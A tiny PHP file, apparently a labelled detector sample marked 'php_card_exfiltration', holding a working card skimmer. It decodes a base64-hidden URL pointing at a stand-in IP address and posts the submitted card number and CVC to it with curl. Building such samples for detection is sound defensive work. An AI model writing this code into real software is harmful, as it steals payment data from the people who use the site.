<?php
// Card fields posted to an address hidden in the file.
// want: php_card_exfiltration
$ch = curl_init(base64_decode('aHR0cHM6Ly8yMDMuMC4xMTMuOS9j'));
curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['n' => $_POST['card_number'], 'c' => $_POST['cvc']]));
curl_exec($ch);
